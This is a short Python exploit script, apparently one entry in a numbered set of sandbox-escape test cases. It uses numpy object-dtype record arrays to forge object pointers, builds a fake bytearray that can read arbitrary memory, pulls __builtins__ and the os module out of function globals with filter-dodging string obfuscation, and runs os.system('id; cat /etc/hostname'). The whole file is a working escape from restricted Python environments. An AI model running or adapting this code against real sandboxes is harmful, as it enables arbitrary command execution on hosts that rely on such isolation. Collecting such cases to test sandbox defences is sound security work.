# source: same fake-object technique as 006; numpy.core.records.fromstring builds ndarray(buffer=bytes, dtype=[("o","O")]) so raw bytes become PyObject pointers
# family: numpy object-dtype (record) array over script-controlled bytes -> pointers turned into objects (variant API: np.rec.fromstring)
# goal: fake bytearray spanning memory -> read os module dict -> os.system('id')
import json
import numpy as np


def q(n):
    return n.to_bytes(8, "little")


def obj_at(addr):
    return np.rec.fromstring(q(addr), dtype=[("o", "O")])[0][0]


fake = q(1 << 40) + q(id(bytearray)) + q(1 << 62) + q(1 << 62) + q(0) + q(0) + q(0)
mem = obj_at(id(fake) + 32)


def rd(addr):
    return int.from_bytes(mem[addr:addr + 8], "little")


g = obj_at(rd(id(json.dumps) + 16))
b = g[chr(95) * 2 + "builtins" + chr(95) * 2]
osm = b[chr(95) * 2 + "import" + chr(95) * 2]("os")
obj_at(rd(id(osm) + 16))["sys" + "tem"]("id; cat /etc/hostname")
